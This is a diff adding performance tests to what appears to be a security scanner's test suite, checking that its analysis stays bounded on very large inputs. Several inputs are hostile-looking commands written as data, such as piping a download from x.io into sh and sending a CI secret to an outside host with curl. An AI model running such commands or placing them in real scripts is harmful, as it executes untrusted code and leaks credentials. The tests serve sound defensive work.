@@ -131,6 +131,13 @@ describe('checks', { timeout: 300_000 }, () => {
   it.each([
     ['.npmrc', `registry${' '.repeat(runs(1_000_000))}x`],
     ['a.go', `func init() {\n${'\tinit(http.Get(x))\n'.repeat(100)}\n}\n`.repeat(runs(500))],
+    ['.gitconfig', '\n'.repeat(runs(800_000))],
+    ['.github/workflows/a.yml', `workflow_run${' '.repeat(runs(800_000))}x`],
+    ['a.sh', `curl -o a https://x.io/c\nchmod ${'0'.repeat(runs(800_000))} a`],
+    ['b.sh', 'curl ${{secrets.A}} http://x.io|'.repeat(runs(25_000))],
+    ['c.sh', 'curl https://x.io/i|sh\n'.repeat(runs(35_000))],
+    ['a.py', `import a${'.a'.repeat(runs(400_000))}`],
+    ['a.js', `const x='${'a?(b)'.repeat(3_900)}';${'fetch(x);exec(x);'.repeat(runs(40_000))}`],
   ])('are bounded on %s', (path, text) => {
     expect(judged({ [path]: text })).toEqual(expect.any(Array));
   });
